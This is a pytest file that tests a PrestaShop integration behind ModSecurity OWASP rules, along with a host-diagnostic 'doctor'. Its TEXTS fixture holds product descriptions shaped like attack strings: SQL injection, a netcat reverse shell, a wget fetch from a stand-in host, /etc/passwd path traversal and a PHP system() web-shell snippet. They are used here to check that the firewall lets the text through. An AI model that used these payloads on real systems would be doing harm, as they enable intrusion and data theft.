"""A real PrestaShop behind the hosters' usual obstacles: ModSecurity with the OWASP rules, no uploads, maintenance."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from datetime import timedelta
from typing import Any

import pytest

from stockbridge.clock import SystemClock
from stockbridge.service.doctor import Finding, examine, letter
from tests.contract.suite.agent import Agent
from tests.contract.suite.prestashop import PrestaShop
from tests.shop.conftest import VERSIONS, running_shop
from tests.support.prestashop import ShopUnavailable

TEXTS = {
    "HTML": '<p class="lead">Lamp <em>"Éclat"</em> &amp; more</p><ul><li>10" wide</li></ul>',
    "a script in quotes": "<p>Type <code>&lt;script&gt;alert('x')&lt;/script&gt;</code> to see it</p>",
    "SQL words": "<p>1' OR '1'='1; DROP TABLE ps_orders; -- SELECT * FROM users UNION SELECT 1,2,3</p>",
    "a shell": "<p>$(cat /etc/passwd) `id` | nc -e /bin/sh; wget http://example.test/x.sh</p>",
    "a path": "<p>../../../../etc/passwd and C:\\Windows\\system32\\cmd.exe</p>",
    "PHP": "<p>&lt;?php system($_GET['c']); ?&gt; eval(base64_decode('x'))</p>",
    "quotes": "<p>“double” «français» ‘single’ 5' 11\" O'Brien</p>",
    "an attribute": '<p style="color:red" title="a &gt; b">styled</p>',
    "all alphabets": "<p>Ångström Ελλάδα Россия 日本語 العربية 🛋️</p>",
}


@pytest.fixture(scope="module", params=[pytest.param(version, marks=pytest.mark.shop) for version in VERSIONS])
def real(request: pytest.FixtureRequest) -> Iterator[PrestaShop]:
    for running in running_shop(request.param, "hosting"):
        found = PrestaShop(running)
        yield found
        running.web_settings()
        found.close()


@pytest.fixture
def shop(real: PrestaShop) -> PrestaShop:
    real.shop.web_settings()
    real.reset()
    return real


@pytest.fixture
def guarded(behind_firewall: PrestaShop) -> Iterator[Agent]:
    """An agent that was paired through the firewall."""
    with closing(Agent(behind_firewall.new_pairing_string())) as found:
        yield found


@pytest.fixture
def behind_firewall(shop: PrestaShop) -> PrestaShop:
    try:
        shop.shop.web_settings(waf=True)
    except ShopUnavailable as error:
        pytest.skip(str(error))
    return shop


@pytest.fixture
def agent(shop: PrestaShop) -> Iterator[Agent]:
    with closing(Agent(shop.new_pairing_string())) as found:
        yield found


def product(number: int, text: str) -> dict[str, Any]:
    return {
        "reference": f"SB-{number}",
        "name": {"en": f"Lamp {number}"},
        "description": {"en": text},
        "price": "19.900000",
        "tax_rules_group": "1",
    }


def test_behind_the_owasp_rules_pairing_orders_and_texts_of_every_kind_pass(
    behind_firewall: PrestaShop, guarded: Agent
) -> None:
    agent = guarded
    items = [agent.item(f"A-{at}", product=product(at, text)) for at, text in enumerate(TEXTS.values())]
    answers = agent.apply("products", *items)
    assert [answer.result for answer in answers] == ["created"] * len(items)
    assert agent.manners.form == "multipart"
    behind_firewall.shop.web_settings()
    behind_firewall.place_order()
    behind_firewall.shop.web_settings(waf=True)
    token, leased = agent.lease()
    assert len(leased.events) == 1
    assert agent.done(token, leased) == ["settled"]


def test_behind_the_owasp_rules_a_full_batch_passes(guarded: Agent) -> None:
    long_text = " ".join(TEXTS.values()) * 20
    items = [guarded.item(f"B-{at}", product=product(at, f"{at} {long_text}")) for at in range(100)]
    assert {answer.result for answer in guarded.apply("products", *items)} == {"created"}


def findings(shop: PrestaShop, agent: Agent) -> dict[str, Finding]:
    found = examine(shop_url=shop.url, probe=agent.client, hello=lambda: agent.hello().result, clock=SystemClock())
    return {finding.code: finding for finding in found}


def test_the_doctor_finds_a_healthy_host_healthy(shop: PrestaShop, agent: Agent) -> None:
    found = findings(shop, agent)
    bad = {code for code, finding in found.items() if finding.level == "bad"}
    assert bad == set()
    assert {"doctor_reached", "doctor_understood", "doctor_clock", "doctor_carries", "doctor_bounded"} <= found.keys()


def test_the_doctor_sees_through_the_owasp_rules(behind_firewall: PrestaShop, guarded: Agent) -> None:
    found = findings(behind_firewall, guarded)
    assert {code for code, finding in found.items() if finding.level == "bad"} == set()


def test_the_doctor_names_php_limits_that_are_too_small(shop: PrestaShop, agent: Agent) -> None:
    shop.shop.web_settings({"memory_limit": "96M", "max_execution_time": "15", "post_max_size": "500K"})
    found = findings(shop, agent)
    assert {"doctor_memory", "doctor_time_limit", "doctor_post_limit", "doctor_does_not_carry"} <= found.keys()
    told = letter(list(found.values()), shop.url)
    for word in ("memory_limit", "max_execution_time", "post_max_size"):
        assert word in told


def test_the_doctor_tells_that_uploads_are_off(shop: PrestaShop, agent: Agent) -> None:
    shop.take_uploads_off()
    found = findings(shop, agent)
    assert found["doctor_uploads_off"].level == "hint"
    assert agent.manners.form == "raw"
    assert "doctor_carries" in found


def test_a_shop_in_maintenance_is_served_and_named(shop: PrestaShop, agent: Agent) -> None:
    shop.shop.configuration("PS_SHOP_ENABLE", "0")
    found = findings(shop, agent)
    assert "doctor_maintenance" in found
    assert [answer.result for answer in agent.apply("products", agent.item("A-1", product=product(1, "x")))] == [
        "created"
    ]


def test_the_clocks_agree_on_one_machine(shop: PrestaShop, agent: Agent) -> None:
    agent.hello()
    assert abs(agent.client.skew) < timedelta(seconds=5)
